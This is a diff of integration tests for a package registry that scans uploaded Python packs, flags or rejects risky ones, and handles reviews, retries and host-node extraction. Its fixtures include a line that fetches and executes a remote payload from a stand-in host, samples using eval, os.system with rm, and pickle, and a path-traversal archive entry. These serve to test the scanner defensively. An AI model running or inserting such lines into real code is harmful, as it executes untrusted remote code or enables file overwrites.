@@ -1,27 +1,79 @@
 import assert from 'node:assert/strict'
-import { after, before, describe, test } from 'node:test'
+import { rename } from 'node:fs/promises'
+import { before, describe, test } from 'node:test'
 
 import { Client as TemporalClient, Connection } from '@temporalio/client'
 
 import { EXTRACTOR_VERSION } from '../../src/extraction/versions.ts'
+import { makeClient } from '../support/client.ts'
+import type { Client } from '../support/client.ts'
 import { temporalAddress } from '../support/stack.ts'
 import { waitFor } from '../support/wait.ts'
 import { writeZip } from '../support/zip-writer.ts'
-import { ACTIVE, FLAGGED, makePack, openExtractionPlace } from './extraction-place.ts'
-import type { ExtractionPlace, Published } from './extraction-place.ts'
-import { expectStatus } from './registry-support.ts'
+import {
+  ADMIN,
+  expectStatus,
+  listOf,
+  pluck,
+  untilDecided,
+  upload,
+  usePublisher,
+  useRegistry,
+} from './registry-support.ts'
+import type { Added } from './registry-support.ts'
 
+const ACTIVE = 'NodeVersionStatusActive'
+const PENDING = 'NodeVersionStatusPending'
+const FLAGGED = 'NodeVersionStatusFlagged'
 const EXTRACTION_TOKEN = 'extraction-token-of-this-test'
 
-let place: ExtractionPlace
+const registry = useRegistry({ roles: ['api', 'core', 'media'] })
+const owned = usePublisher(registry, { id: 'acme', user: 'olga' })
 /** A second api with EXTRACTION_TOKEN. */
 let trustedUrl: string
+/** An api that cannot reach Temporal: what is published there waits until the test lets it go. */
+let apart: Client
 
-before(async () => {
-  place = await openExtractionPlace()
-  trustedUrl = (await place.service.startSecondApi({ EXTRACTION_TOKEN })).baseUrl
+registry.prepare(async () => {
+  const { service } = registry
+  trustedUrl = (await service.startSecondApi({ EXTRACTION_TOKEN })).baseUrl
+  const away = { TEMPORAL_ADDRESS: '127.0.0.1:1', RELAY_INTERVAL_MS: '86400000' }
+  const { baseUrl } = await service.startSecondApi(away)
+  apart = makeClient(baseUrl, await service.token(owned.user))
 })
-after(() => place?.service.stop())
+
+/** Uploads the archive of a version and waits for its verdict. */
+const send = async ({ signedUrl, version }: Added, zip: Buffer) => {
+  assert.equal((await upload(signedUrl, zip)).status, 200)
+  return await untilDecided(registry, version)
+}
+
+const pack = (files: Record<string, string>): Buffer =>
+  writeZip(Object.entries(files).map(([name, data]) => ({ name, data, method: 8 })))
+
+interface Decided {
+  added: Added
+  /** Of the version, which is as `seen` once it is decided on. */
+  path: string
+  seen: Record<string, unknown>
+}
+
+/** Publishes a pack and waits for its verdict. */
+const add = async (files: Record<string, string> | Buffer): Promise<Decided> => {
+  const added = await owned.addVersion()
+  const seen = await send(added, Buffer.isBuffer(files) ? files : pack(files))
+  return { added, path: added.version, seen }
+}
+
+/** What members are told of a version. */
+const readFindings = async (path: string): Promise<Record<string, unknown>> =>
+  expectStatus(await owned.owner.get(`${path}/findings`), 200).body
+
+const readNames = async (path: string): Promise<unknown[]> =>
+  pluck(listOf(await registry.anonymous.get(`${path}/host-nodes`), 'host_nodes'), 'host_node_name')
+
+const reviewed = async (): Promise<unknown[]> =>
+  pluck(listOf(await registry.admin.get('/versions?review_requested=true'), 'versions'))
 
 const GOOD = {
   'kiln-cups/__init__.py': `from .cups import Cup, Pot
@@ -55,18 +107,18 @@ ${more}`,
 })
 
 describe('a good pack', () => {
-  let good: Published & { version: Record<string, unknown> }
+  let good: Decided
   before(async () => {
-    good = await place.add(GOOD)
+    good = await add(GOOD)
   })
 
   test('is Active, with its host nodes and their fields', async () => {
-    const { version, path } = good
+    const { seen: version, path } = good
     assert.deepEqual(
       [version['status'], version['status_reason'], version['host_node_extract_status']],
       [ACTIVE, 'Passed automated checks', 'success'],
     )
-    const { body } = expectStatus(await place.anonymous.get(`${path}/host-nodes`), 200)
+    const { body } = expectStatus(await registry.anonymous.get(`${path}/host-nodes`), 200)
     assert.equal(body['total'], 2)
     assert.deepEqual(body['host_nodes'], [
       {
@@ -98,7 +150,7 @@ describe('a good pack', () => {
       },
     ])
     assert.deepEqual(version['tags_admin'], [])
-    const { findings, extraction, counts } = await place.readFindings(path)
+    const { findings, extraction, counts } = await readFindings(path)
     assert.deepEqual(
       [findings, extraction, counts],
       [[], { status: 'success', partial: false }, { high: 0, medium: 0, info: 0 }],
@@ -106,16 +158,16 @@ describe('a good pack', () => {
   })
 
   test('is found by the names of its host nodes', async () => {
-    const { anonymous } = place
+    const { anonymous } = registry
     for (const name of ['Kiln Cup', 'Kiln/Pot ']) {
       const found = await anonymous.get(`/host-nodes/${encodeURIComponent(name)}/node`)
-      assert.equal(expectStatus(found, 200).body['id'], good.nodeId)
+      assert.equal(expectStatus(found, 200).body['id'], good.added.nodeId)
     }
     const { body } = await anonymous.get('/nodes/search?host_node_search=n%2Fpot')
     const nodes = body['nodes'] as unknown as { id: string }[]
     assert.deepEqual(
       nodes.map(({ id }) => id),
-      [good.nodeId],
+      [good.added.nodeId],
     )
   })
 
@@ -124,7 +176,7 @@ describe('a good pack', () => {
     try {
       const { workflow } = new TemporalClient({ connection })
       for (const kind of ['publish-version', 'receive-archive', 'extract-host-nodes']) {
-        const handle = workflow.getHandle(`${kind}/${good.id}`)
+        const handle = workflow.getHandle(`${kind}/${good.added.id}`)
         const told = await waitFor(`${kind} has completed`, async () => {
           const found = await handle.describe()
           return found.status.name === 'COMPLETED' && found
@@ -135,12 +187,12 @@ describe('a good pack', () => {
         const known = ['KilnPublisher', 'KilnNode', 'KilnVersion', 'KilnKind', 'KilnOwner']
         assert.deepEqual(
           known.map((name) => attributes.get(name)),
-          ['acme', good.nodeId, '1.0.0', 'publish', 'olga'],
+          ['acme', good.added.nodeId, '1.0.0', 'publish', 'olga'],
         )
         const summary = await told.staticSummary()
-        assert.ok(summary?.includes(`${good.nodeId}@1.0.0`), `${kind}: ${summary}`)
+        assert.ok(summary?.includes(`${good.added.nodeId}@1.0.0`), `${kind}: ${summary}`)
         if (kind !== 'publish-version')
-          assert.equal(told.parentExecution?.workflowId, `publish-version/${good.id}`)
+          assert.equal(told.parentExecution?.workflowId, `publish-version/${good.added.id}`)
         const payloads = listPayloads(await handle.fetchHistory())
         assert.ok(payloads.length > 0, 'there are payloads')
         for (const payload of payloads) {
@@ -164,13 +216,13 @@ const listPayloads = (value: unknown): Buffer[] => {
 
 describe('a pack with a finding of high severity', () => {
   const SECRET_LINE = 'exec(requests.get("https://x.example/payload").text)'
-  let bad: Published & { version: Record<string, unknown> }
+  let bad: Decided
   before(async () => {
-    bad = await place.add(minimal(['Kiln Bad'], `import requests\n\n${SECRET_LINE}\n`))
+    bad = await add(minimal(['Kiln Bad'], `import requests\n\n${SECRET_LINE}\n`))
   })
 
   test('is Flagged with a sentence that names rule, file and line', async () => {
-    const { version } = bad
+    const { seen: version } = bad
     assert.equal(version['status'], FLAGGED)
     assert.match(
       String(version['status_reason']),
@@ -178,16 +230,16 @@ describe('a pack with a finding of high severity', () => {
     )
     // What it provides is known all the same.
     assert.equal(version['host_node_extract_status'], 'success')
-    assert.deepEqual(await place.readNames(bad.path), ['Kiln Bad'])
+    assert.deepEqual(await readNames(bad.path), ['Kiln Bad'])
     expectStatus(
-      await place.anonymous.get('/host-nodes/Kiln%20Bad/node'),
+      await registry.anonymous.get('/host-nodes/Kiln%20Bad/node'),
       404,
       'host_node_not_found',
     )
   })
 
   test('shows its findings to members, and to others how many there are', async () => {
-    const { counts, scanned_at: at, findings, moves } = await place.readFindings(bad.path)
+    const { counts, scanned_at: at, findings, moves } = await readFindings(bad.path)
     const [{ id, ...finding } = { id: '' }, ...rest] = findings as { id: string }[]
     assert.match(id, /^[0-9a-f-]{36}$/)
     assert.deepEqual(rest, [])
@@ -202,49 +254,52 @@ describe('a pack with a finding of high severity', () => {
       scanner_version: String((finding as { scanner_version?: string }).scanner_version),
     })
     assert.ok(Array.isArray(moves), 'and its moves')
-    const told = expectStatus(await place.anonymous.get(`${bad.path}/findings`), 200)
+    const told = expectStatus(await registry.anonymous.get(`${bad.path}/findings`), 200)
     assert.deepEqual(told.body, { counts, scanned_at: at })
-    const asAdmin = expectStatus(await place.admin.get(`${bad.path}/findings`), 200)
+    const asAdmin = expectStatus(await registry.admin.get(`${bad.path}/findings`), 200)
     assert.deepEqual(asAdmin.body['findings'], findings)
   })
 
   test('says why it cannot be had', async () => {
-    const reason = String(bad.version['status_reason'])
+    const reason = String(bad.seen['status_reason'])
     for (const path of [
-      `/nodes/${bad.nodeId}/install?version=1.0.0`,
-      `/archives/acme/${bad.nodeId}/1.0.0/node.zip`,
+      `/nodes/${bad.added.nodeId}/install?version=1.0.0`,
+      `/archives/acme/${bad.added.nodeId}/1.0.0/node.zip`,
     ]) {
-      const refused = expectStatus(await place.anonymous.get(path), 403, 'version_blocked')
+      const refused = expectStatus(await registry.anonymous.get(path), 403, 'version_blocked')
       assert.ok(refused.body.message?.includes(reason), refused.body.message)
     }
   })
 
   test('is Active when its owner asks for a review and an admin finds it harmless', async () => {
-    const review = `/publishers/acme/nodes/${bad.nodeId}/versions/${bad.id}/review`
-    expectStatus(await place.owner.post(review, { note: 'the address is ours' }), 201)
-    expectStatus(await place.owner.post(review, {}), 409, 'review_already_requested')
-    const listed = async (): Promise<string[]> => {
-      const { body } = await place.admin.get('/versions?review_requested=true')
-      return (body['versions'] as unknown as { id: string }[]).map(({ id }) => id)
-    }
-    assert.deepEqual(await listed(), [bad.id])
+    const { id, nodeId, node, ownVersion } = bad.added
+    expectStatus(await owned.owner.post(`${ownVersion}/review`, { note: 'it is ours' }), 201)
+    assert.deepEqual(await reviewed(), [id])
     const activate = { status: ACTIVE, status_reason: 'looked at' }
-    expectStatus(await place.admin.call('PUT', `/admin${bad.path}`, activate), 200)
-    assert.deepEqual(await listed(), [])
-    expectStatus(await place.anonymous.get(`/nodes/${bad.nodeId}/install`), 200)
-    const found = await place.anonymous.get('/host-nodes/Kiln%20Bad/node')
-    assert.equal(expectStatus(found, 200).body['id'], bad.nodeId)
-    const { reviews, findings } = await place.readFindings(bad.path)
-    const [{ note, closed_at: closedAt } = {}] = reviews as Record<string, unknown>[]
-    assert.equal(note, 'the address is ours')
-    assert.ok(closedAt, 'the review is closed')
+    expectStatus(await registry.admin.put(`/admin${bad.path}`, activate), 200)
+    assert.deepEqual(await reviewed(), [])
+    expectStatus(await registry.anonymous.get(`${node}/install`), 200)
+    const found = await registry.anonymous.get('/host-nodes/Kiln%20Bad/node')
+    assert.equal(expectStatus(found, 200).body['id'], nodeId)
+    const { reviews, findings, moves } = await readFindings(bad.path)
+    assert.deepEqual(pluck(reviews as object[], 'note'), ['it is ours'])
     assert.equal((findings as object[]).length, 1)
+    assert.deepEqual(pluck(moves as object[], 'actor'), [
+      'user:olga',
+      'workflow',
+      'workflow',
+      `user:${ADMIN}`,
+    ])
+    assert.deepEqual(
+      pluck((moves as object[]).slice(1), 'from'),
+      pluck((moves as object[]).slice(0, -1), 'to'),
+    )
   })
 })
 
 describe('findings of lower severity', () => {
   test('never flag; those of medium severity are told in tags', async () => {
-    const { version, path } = await place.add({
+    const { seen: version, path } = await add({
       ...minimal(
         ['Kiln Odd'],
         'import os, pickle, requests, subprocess\neval(os.environ["X"])\nos.system(f"rm {X}")\npickle.load(X)\nrequests.get(X)\nsubprocess.run(["ls"])\n',
@@ -258,7 +313,7 @@ describe('findings of lower severity', () => {
       tags.toSorted(),
       rules.map((rule) => `security:${rule}`),
     )
-    const { counts, findings } = await place.readFindings(path)
+    const { counts, findings } = await readFindings(path)
     const { high, medium, info } = counts as Record<string, number>
     assert.deepEqual([high, medium], [0, 4])
     assert.ok(info && info > 0, 'and some of info')
@@ -275,10 +330,10 @@ describe('an archive that is rejected', () => {
       { name: '__init__.py', data: 'NODE_CLASS_MAPPINGS = {}\n' },
       { name: '../evil.py', data: 'x' },
     ])
-    const { version, path } = await place.add(zip)
+    const { seen: version, path } = await add(zip)
     assert.deepEqual([version['status'], version['host_node_extract_status']], [FLAGGED, 'failed'])
     assert.equal('downloadUrl' in version, false)
-    const { findings, counts, extraction } = await place.readFindings(path)
+    const { findings, counts, extraction } = await readFindings(path)
     assert.deepEqual(extraction, {
       status: 'failed',
       reason: 'archive_path_traversal',
@@ -293,18 +348,66 @@ describe('an archive that is rejected', () => {
     )
     const reason = String(version['status_reason'])
     assert.ok(reason.includes(String(finding?.['message'])), reason)
-    expectStatus(await place.admin.post(`/admin${path}/retry`, {}), 409, 'nothing_to_retry')
+    expectStatus(await registry.admin.post(`/admin${path}/retry`, {}), 409, 'nothing_to_retry')
+  })
+})
+
+describe('a check that cannot run', () => {
+  /** Starts the workflow of a version, with short pauses between the tries of its checks. */
+  const letGo = async (id: string): Promise<void> => {
+    const { sql } = registry.service.database
+    const timing = { tries: 2, retrySeconds: 0.05, maxRetrySeconds: 0.05 }
+    await sql`
+      update outbox
+      set args = jsonb_set(args, '{0,timing}', ${sql.json(timing)}), next_try_at = now()
+      where workflow_id = ${`publish-version/${id}`}
+    `
+  }
+
+  test('says so, holds up no other version, and ends well when it is tried again', async () => {
+    const { database, storagePath } = registry.service
+    const { id, node, version, signedUrl } = await owned.addVersion({ client: apart })
+    await database.sql`
+      update outbox set next_try_at = 'infinity' where workflow_id = ${`publish-version/${id}`}
+    `
+    const zip = pack(minimal(['Kiln Stuck']))
+    assert.equal((await upload(signedUrl, zip)).status, 200)
+    const [stored, away] = [`${storagePath}/uploads/${id}`, `${storagePath}/../away`]
+    await rename(stored, away)
+    await letGo(id)
+    const body = await waitFor('the checks have given up', async () => {
+      const { body } = await registry.anonymous.get(version)
+      return /checks could not run/.test(String(body['status_reason'])) && body
+    })
+    assert.equal(body['status'], PENDING)
+    assert.match(String(body['status_reason']), /archive is missing.*an operator can retry/)
+    // Neither path nor key of what is missing.
+    assert.doesNotMatch(String(body['status_reason']), /\//)
+    assert.equal((await add(zip)).seen['status'], ACTIVE)
+
+    await rename(away, stored)
+    const tried = expectStatus(await registry.admin.post(`/admin${version}/retry`, {}), 200)
+    assert.equal(tried.body['status'], PENDING)
+    assert.equal((await untilDecided(registry, version))['status'], ACTIVE)
+    expectStatus(await registry.anonymous.get(`${node}/install`), 200)
+    const { moves } = await readFindings(version)
+    assert.deepEqual(pluck(moves as object[], 'actor').slice(0, 4), [
+      'user:olga',
+      'workflow',
+      'workflow',
+      `user:${ADMIN}`,
+    ])
   })
 })
 
 describe('a pack without host nodes', () => {
   test('is Active with none when it is one of scripts for the browser', async () => {
-    const { version, path } = await place.add({
+    const { seen: version, path } = await add({
       '__init__.py': 'WEB_DIRECTORY = "./js"\nNODE_CLASS_MAPPINGS = {}\n',
       'js/a.js': 'export {}\n',
     })
     assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
-    assert.deepEqual(await place.readNames(path), [])
+    assert.deepEqual(await readNames(path), [])
   })
 
   for (const [files, reason] of [
@@ -312,9 +415,9 @@ describe('a pack without host nodes', () => {
     [{ '__init__.py': 'x = 1\n' }, 'no_mapping'],
   ] as const)
     test(`is Active, and its extraction says ${reason}`, async () => {
-      const { version, path } = await place.add(files)
+      const { seen: version, path } = await add(files)
       assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'failed'])
-      const { extraction } = await place.readFindings(path)
+      const { extraction } = await readFindings(path)
       assert.deepEqual(extraction, { status: 'failed', reason, partial: false })
     })
 })
@@ -322,17 +425,20 @@ describe('a pack without host nodes', () => {
 describe('an extraction that failed', () => {
   const untilSettled = async (path: string): Promise<unknown> =>
     await waitFor('the extraction has ended', async () => {
-      const { body } = await place.anonymous.get(path)
+      const { body } = await registry.anonymous.get(path)
       return body['host_node_extract_status'] !== 'pending' && body['host_node_extract_status']
     })
   const retry = async (path: string): Promise<void> => {
-    const { body } = expectStatus(await place.admin.post(`/admin${path}/retry`, {}), 200)
+    const { body } = expectStatus(await registry.admin.post(`/admin${path}/retry`, {}), 200)
     assert.deepEqual([body['status'], body['host_node_extract_status']], [ACTIVE, 'pending'])
   }
 
   test('is made again when an admin retries it, from the archive', async () => {
-    const { id, path } = await place.add(minimal(['Kiln Late']))
-    const { sql } = place.service.database
+    const {
+      path,
+      added: { id },
+    } = await add(minimal(['Kiln Late']))
+    const { sql } = registry.service.database
     // As if the reading had never ended.
     await sql`delete from extraction where version_id = ${id}`
     await sql`delete from host_node where version_id = ${id}`
@@ -340,18 +446,21 @@ describe('an extraction that failed', () => {
       update version set host_node_extract_status = 'failed', extract_reason = 'timed_out'
       where id = ${id}
     `
-    const { extraction } = await place.readFindings(path)
+    const { extraction } = await readFindings(path)
     assert.deepEqual(extraction, { status: 'failed', reason: 'timed_out', partial: false })
     await retry(path)
     assert.equal(await untilSettled(path), 'success')
-    assert.deepEqual(await place.readNames(path), ['Kiln Late'])
-    assert.equal((await place.anonymous.get(path)).body['status'], ACTIVE)
-    expectStatus(await place.admin.post(`/admin${path}/retry`, {}), 409, 'nothing_to_retry')
+    assert.deepEqual(await readNames(path), ['Kiln Late'])
+    assert.equal((await registry.anonymous.get(path)).body['status'], ACTIVE)
+    expectStatus(await registry.admin.post(`/admin${path}/retry`, {}), 409, 'nothing_to_retry')
   })
 
   test('fails again for the same reason, and can be retried again', async () => {
-    const { id, path } = await place.add({ 'README.md': 'x' })
-    const { sql } = place.service.database
+    const {
+      path,
+      added: { id },
+    } = await add({ 'README.md': 'x' })
+    const { sql } = registry.service.database
     const readAt = async () =>
       (await sql`select read_at from extraction where version_id = ${id}`)[0]?.['read_at']
     for (let times = 0; times < 2; times += 1) {
@@ -359,7 +468,7 @@ describe('an extraction that failed', () => {
       await retry(path)
       assert.equal(await untilSettled(path), 'failed')
       assert.notDeepEqual(await readAt(), before)
-      const { extraction } = await place.readFindings(path)
+      const { extraction } = await readFindings(path)
       assert.deepEqual(extraction, { status: 'failed', reason: 'no_init', partial: false })
     }
   })
@@ -380,19 +489,19 @@ describe('a report of host nodes', () => {
   }
 
   test('that anybody could send gives way to what the archive says; the policy of operators stays', async () => {
-    const published = await place.publish()
-    const { path } = published
-    expectStatus(await place.anonymous.post(`${path}/host-nodes`, report), 204)
-    assert.deepEqual(await place.readNames(path), ['Kiln Cup', 'Kiln Told'])
+    const published = await owned.addVersion()
+    const { version: path } = published
+    expectStatus(await registry.anonymous.post(`${path}/host-nodes`, report), 204)
+    assert.deepEqual(await readNames(path), ['Kiln Cup', 'Kiln Told'])
     const banned = { host_node_policies: { 'Kiln Cup': 'HostNodePolicyBanned' } }
-    expectStatus(await place.admin.call('PUT', `/admin${path}`, banned), 200)
-    const version = await place.send(published, makePack(minimal(['Kiln Cup', 'Kiln New'])))
+    expectStatus(await registry.admin.put(`/admin${path}`, banned), 200)
+    const version = await send(published, pack(minimal(['Kiln Cup', 'Kiln New'])))
     assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
-    assert.deepEqual(await place.readNames(path), ['Kiln Cup', 'Kiln New'])
-    const { body } = await place.anonymous.get(`${path}/host-nodes/Kiln%20Cup`)
+    assert.deepEqual(await readNames(path), ['Kiln Cup', 'Kiln New'])
+    const { body } = await registry.anonymous.get(`${path}/host-nodes/Kiln%20Cup`)
     assert.deepEqual([body['policy'], body['category']], ['HostNodePolicyBanned', 'sd'])
     expectStatus(
-      await place.anonymous.post(`${path}/host-nodes`, report),
+      await registry.anonymous.post(`${path}/host-nodes`, report),
       409,
       'already_registered',
     )
@@ -400,40 +509,40 @@ describe('a report of host nodes', () => {
   })
 
   test('that is trusted stays', async () => {
-    const published = await place.publish()
-    assert.equal(await trusted(published.path, report), 204)
-    const version = await place.send(published, makePack(minimal(['Kiln New'])))
+    const published = await owned.addVersion()
+    assert.equal(await trusted(published.version, report), 204)
+    const version = await send(published, pack(minimal(['Kiln New'])))
     assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
-    assert.deepEqual(await place.readNames(published.path), ['Kiln Cup', 'Kiln Told'])
+    assert.deepEqual(await readNames(published.version), ['Kiln Cup', 'Kiln Told'])
   })
 
   test('of a failure gives way, too', async () => {
-    const published = await place.publish()
+    const published = await owned.addVersion()
     const failure = { success: false, reason: 'no import' }
-    expectStatus(await place.anonymous.post(`${published.path}/host-nodes`, failure), 204)
-    await place.send(published, makePack(minimal(['Kiln New'])))
-    assert.deepEqual(await place.readNames(published.path), ['Kiln New'])
+    expectStatus(await registry.anonymous.post(`${published.version}/host-nodes`, failure), 204)
+    await send(published, pack(minimal(['Kiln New'])))
+    assert.deepEqual(await readNames(published.version), ['Kiln New'])
   })
 
   test('after a failure to read the archive is taken from whoever is trusted alone', async () => {
-    const { path } = await place.add({ 'README.md': 'x' })
+    const { path } = await add({ 'README.md': 'x' })
     for (const body of [report, { success: false }])
       expectStatus(
-        await place.anonymous.post(`${path}/host-nodes`, body),
+        await registry.anonymous.post(`${path}/host-nodes`, body),
         403,
         'registration_closed',
       )
     assert.equal(await trusted(path, report), 204)
-    assert.deepEqual(await place.readNames(path), ['Kiln Cup', 'Kiln Told'])
-    const { extraction } = await place.readFindings(path)
+    assert.deepEqual(await readNames(path), ['Kiln Cup', 'Kiln Told'])
+    const { extraction } = await readFindings(path)
     assert.deepEqual(extraction, { status: 'success', partial: false })
   })
 })
 
 describe('a workflow that settles host nodes', () => {
   test('takes the reading of a worker that has a newer extractor', async () => {
-    const published = await place.publish()
-    const { sql } = place.service.database
+    const published = await owned.addVersion()
+    const { sql } = registry.service.database
     // Whoever reads has been renewed, and who settles has not.
     await sql`
       create function newer() returns trigger language plpgsql as
@@ -441,9 +550,9 @@ describe('a workflow that settles host nodes', () => {
     `
     await sql`create trigger newer before insert on extraction for each row execute function newer()`
     try {
-      const version = await place.send(published, makePack(minimal(['Kiln New'])))
+      const version = await send(published, pack(minimal(['Kiln New'])))
       assert.equal(version['host_node_extract_status'], 'success')
-      assert.deepEqual(await place.readNames(published.path), ['Kiln New'])
+      assert.deepEqual(await readNames(published.version), ['Kiln New'])
     } finally {
       await sql`drop trigger newer on extraction`
     }
